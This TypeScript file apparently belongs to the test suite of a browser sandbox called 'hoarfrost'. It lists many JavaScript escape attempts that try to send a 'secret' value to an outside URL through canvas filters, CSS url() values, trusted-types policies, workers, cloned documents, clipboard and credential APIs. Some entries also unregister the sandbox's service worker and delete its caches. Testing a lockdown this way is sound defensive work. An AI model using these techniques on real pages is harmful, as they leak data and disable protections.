import type { Attempt } from './attempts.ts';

/** Tries each of these acts for a moment, whatever the others do. */
const each = (...acts: string[]) =>
  `for (const act of [${acts.map((act) => `() => ${act}`).join(', ')}])
    try { await Promise.race([act(), new Promise((r) => setTimeout(r, 60))]) } catch {}`;

const site = "'https://' + host";

/** Third thoughts: what is left on the page's objects once the lockdown has run, read off them one by one. */
export const laterAttempts: Attempt[] = [
  {
    name: 'interest groups of another site',
    body: each(
      `navigator.leaveAdInterestGroup({ owner: ${site}, name: 'x' })`,
      `navigator.clearOriginJoinedAdInterestGroups(${site}, [])`,
      `navigator.getInterestGroupAdAuctionData({ seller: ${site}, coordinatorOrigin: ${site} })`,
      `navigator.getInterestGroupAdAuctionData({ sellers: [{ seller: ${site}, coordinatorOrigin: ${site} }] })`,
      "navigator.deprecatedURNToURL('urn:uuid:c36973b5-e5d9-de59-e4c4-364f137b3c7a', true)",
      "navigator.deprecatedReplaceInURN('urn:uuid:c36973b5-e5d9-de59-e4c4-364f137b3c7a', {})",
      `navigator.protectedAudience.queryFeatureSupport('*')`,
    ),
  },
  {
    name: 'canvas filters and fonts',
    body: `for (const canvas of [document.createElement('canvas'), new OffscreenCanvas(9, 9)]) { const c = canvas.getContext('2d');
      c.filter = 'url(' + to + '#x)'; c.font = '9px url(' + to + ')'; c.fillRect(0, 0, 9, 9); c.fillText('x', 0, 9); document.body.append(canvas.nodeType ? canvas : '') }`,
  },
  {
    name: 'styles by attribute and by type',
    body: `const d = document.createElement('div'); d.textContent = 'x'; document.body.append(d); const value = 'url(' + to + ')';
      for (const put of [() => d.setAttribute('style', 'background:' + value), () => (d.style.cssText = 'border-image:' + value + ' 1'), () => d.attributeStyleMap.set('background-image', value),
        () => d.attributeStyleMap.append('background-image', CSSStyleValue.parse('background-image', value)), () => d.style.setProperty('content', value), () => d.style.setProperty('filter', 'url(' + to + '#x)'), () => d.style.setProperty('background', 'src("' + to + '")')]) try { put() } catch {}`,
  },
  {
    name: 'policies for scripts',
    leaves: true,
    body: `for (const name of ['default', 'hoarfrost', 'x', '']) for (const url of [to, 'sw.js?secret', new URL('workers/leak.js', location.href).href])
      try { const p = trustedTypes.createPolicy(name, { createScriptURL: (u) => u, createHTML: (u) => u, createScript: (u) => u }); const u = p.createScriptURL(url);
        try { new Worker(u) } catch {} try { await navigator.serviceWorker.register(u) } catch {} const s = document.createElement('script'); s.src = u; document.head.append(s) } catch {}`,
  },
  {
    name: 'every file that was loaded, with a query',
    body: `for (const { name } of performance.getEntriesByType('resource').slice(0, 12)) { const u = name + '?secret=' + to;
      try { new Worker(u, { type: 'module' }) } catch {} try { await Promise.race([import(u), new Promise((r) => setTimeout(r, 20))]) } catch {} new Image().src = u }`,
  },
  {
    name: 'messages to the service worker',
    body: `const c = navigator.serviceWorker?.controller; for (const m of [{ type: 'offer', url: to }, { type: 'offer' }, { type: 'drop' }, { type: 'take', build: to }, { type: 'claim', to }, { type: 'fetch', url: to }, to, [to]]) c?.postMessage(m)`,
  },
  {
    name: 'the registration and what it stores, taken away',
    body: each(
      'navigator.serviceWorker.getRegistration().then((r) => r.unregister())',
      'navigator.serviceWorker.getRegistrations().then(([r]) => ServiceWorkerRegistration.prototype.unregister.call(r))',
      "caches.delete('hoarfrost-state')",
      "caches.open('hoarfrost-state').then((c) => c.delete('/current'))",
      "caches.open('hoarfrost-state').then((c) => c.put('/wanted', new Response(String(Date.now()))))",
      "navigator.storageBuckets.open('x').then((b) => b.caches.open('x')).then((c) => c.add(to))",
      "navigator.storageBuckets.delete('default')",
    ),
  },
  {
    name: 'places, radios, sensors and speech',
    body: each(
      'new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))',
      'Geolocation.prototype.getCurrentPosition.call(navigator.geolocation, () => {}, () => {})',
      'navigator.bluetooth.requestDevice({ acceptAllDevices: true })',
      "new NDEFReader().write('secret')",
      "speechSynthesis.speak(new SpeechSynthesisUtterance('secret'))",
      'new webkitSpeechRecognition().start()',
      'navigator.xr.isSessionSupported("immersive-vr")',
      'navigator.requestMIDIAccess({ sysex: true })',
      "navigator.requestMediaKeySystemAccess('com.widevine.alpha', [{ initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4;codecs=\"avc1.42E01E\"' }] }])",
    ),
  },
  {
    name: 'models and tools of the vendor',
    body: each(
      'LanguageModel.create()',
      "Translator.create({ sourceLanguage: 'en', targetLanguage: 'fr' })",
      'Summarizer.create()',
      'LanguageDetector.create()',
      'new FaceDetector().detect(document.createElement("canvas"))',
      'new TextDetector().detect(document.createElement("canvas"))',
      'new BarcodeDetector().detect(document.createElement("canvas"))',
      `getDigitalGoodsService(${site})`,
      'navigator.subApps.add({ "/secret": { installURL: "/secret" } })',
      'navigator.ml.createContext()',
    ),
  },
  {
    name: 'credentials by other doors',
    body: each(
      `Navigator.prototype.__lookupGetter__('credentials').call(navigator).create({ publicKey: { rp: { id: host, name: 'x' }, user: { id: new Uint8Array(8), name: 'x', displayName: 'x' }, challenge: new Uint8Array(8), pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } })`,
      `CredentialsContainer.prototype.store.call(navigator.credentials, new PasswordCredential({ id: 'x', password: 'x', iconURL: ${site} }))`,
      `new FederatedCredential({ id: 'x', provider: ${site}, iconURL: ${site} })`,
      'navigator.credentials.get({ digital: { requests: [{ protocol: "openid4vp", data: {} }] } })',
      'document.requestStorageAccess({ all: true })',
      `document.hasPrivateToken(${site})`,
    ),
  },
  {
    name: 'addresses of a file system',
    leaves: true,
    body: `const fs = await Promise.race([new Promise((y, n) => webkitRequestFileSystem(0, 9999, y, n)), new Promise((_, n) => setTimeout(n, 200))]);
      const entry = await new Promise((y, n) => fs.root.getFile('x.html', { create: true }, y, n)); const writer = await new Promise((y, n) => entry.createWriter(y, n));
      await new Promise((y) => { writer.onwriteend = y; writer.write(new Blob(['<img src=' + to + '>'], { type: 'text/html' })) }); const u = entry.toURL();
      new Image().src = u; try { new Worker(u) } catch {} try { const a = document.createElement('a'); a.href = u; a.click() } catch {} location.href = u`,
  },
  {
    name: 'elements of the document inside a template',
    leaves: true,
    body: `const t = document.createElement('template'), d = t.content.ownerDocument; for (const n of ['iframe', 'meta', 'link', 'object'])
      for (const make of [() => d.createElement(n), () => Document.prototype.createElement.call(d, n), () => d.createElementNS('http://www.w3.org/1999/xhtml', n), () => d.importNode(document.querySelector(n), true)])
        try { const e = make(); e.src = e.href = e.data = to; e.rel = 'prefetch'; e.httpEquiv = 'refresh'; e.content = '0;url=' + to; t.content.append(e); document.body.append(t.content.cloneNode(true)) } catch {}`,
  },
  {
    name: 'a copy of the whole document',
    leaves: true,
    body: `const d = document.cloneNode(true); for (const e of d.querySelectorAll('link, meta, script')) for (const [n, v] of [['href', to], ['src', to], ['content', '0;url=' + to], ['http-equiv', 'refresh'], ['rel', 'prefetch']])
      for (const put of [() => e.setAttribute(n, v), () => (e[n] = v), () => (e.attributes[n].value = v), () => e.attributes[n].replaceWith(v)]) try { put() } catch {} document.head.append(...d.head.childNodes)`,
  },
  {
    name: 'an element whose kind is read late',
    leaves: true,
    body: `class Late { constructor() { this.n = 0 } toString() { return ['div', 'div', 'iframe', 'meta', 'link'][this.n++ % 5] } [Symbol.toPrimitive]() { return this.toString() } }
      for (let i = 0; i < 8; i += 1) { const e = document.createElement(new Late(), { is: new Late() }); e.src = e.href = to; document.body.append(e) }
      const options = { get is() { location.href = to; return 'x' } }; document.createElement('div', options)`,
  },
  {
    name: 'requests under other names',
    body: each(
      'new Request(to, { method: "POST", body: "secret", keepalive: true }).text()',
      'new Response(new Request(to).body).text()',
      'Response.redirect(to).text()',
      'WebAssembly.compileStreaming(new Request(to))',
      'createImageBitmap(to)',
      'new ImageDecoder({ data: to, type: "image/png" }).decode()',
      'navigator.clipboard.write([new ClipboardItem({ "text/html": new Blob(["<img src=" + to + ">"], { type: "text/html" }) })])',
      'document.fonts.load("9px x", to)',
      'new EventTarget().dispatchEvent(new FetchEvent("fetch", { request: new Request(to) }))',
    ),
  },
  {
    name: 'what the person is asked to keep or to open',
    body: each(
      'external.AddFavorite(to)',
      'sidebar.addPanel("x", to, "")',
      'navigator.unregisterProtocolHandler("web+x", to + "/%s")',
      'navigator.mediaDevices.setCaptureHandleConfig({ handle: "secret", exposeOrigin: true, permittedOrigins: ["*"] })',
      'getScreenDetails()',
      'launchQueue.setConsumer(() => fetch(to))',
      'chrome.runtime.sendMessage("x", "secret")',
      'chrome.app.getDetails()',
      'browser.runtime.sendMessage("secret")',
    ),
  },
];

export const laterWorkerAttempts: Attempt[] = [
  {
    name: 'worker: canvas filters and fonts',
    body: `const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + to + '#x)'; c.font = '9px url(' + to + ')'; c.fillRect(0, 0, 9, 9); await self.fonts.load('9px x')`,
  },
  {
    name: 'worker: its own file with a query',
    body: `for (const make of [() => import(location.href + '?secret'), () => importScripts(location.href + '?secret'), () => new Worker(location.href + '?secret', { type: 'module' })])
      try { await Promise.race([make(), new Promise((r) => setTimeout(r, 60))]) } catch {}`,
  },
  {
    name: 'worker: caches, buckets and the service worker',
    body: each(
      'caches.open("x").then((c) => c.addAll([to]))',
      'navigator.storageBuckets.open("x").then((b) => b.caches.open("x")).then((c) => c.add(to))',
      'navigator.serviceWorker.register("/sw.js?secret")',
      'navigator.serviceWorker.getRegistration().then((r) => r.update())',
      'registration.backgroundFetch.fetch("x", [to])',
      'caches.delete("hoarfrost-state")',
    ),
  },
  {
    name: 'worker: requests under other names',
    body: each(
      'new Request(to, { method: "POST", body: "secret" }).text()',
      'WebAssembly.compileStreaming(new Request(to))',
      'createImageBitmap(to)',
      'new Notification("x", { icon: to })',
      'new WebSocketStream(to.replace("http", "ws")).opened',
      'navigator.connect(to)',
      'navigator.serial.requestPort()',
      'navigator.usb.getDevices()',
      'new FontFace("x", "url(" + to + ")").load()',
      'FileReaderSync.prototype.readAsText(to)',
      'new SharedWorker(to)',
      'cookieStore.set("secret", "1")',
    ),
  },
];
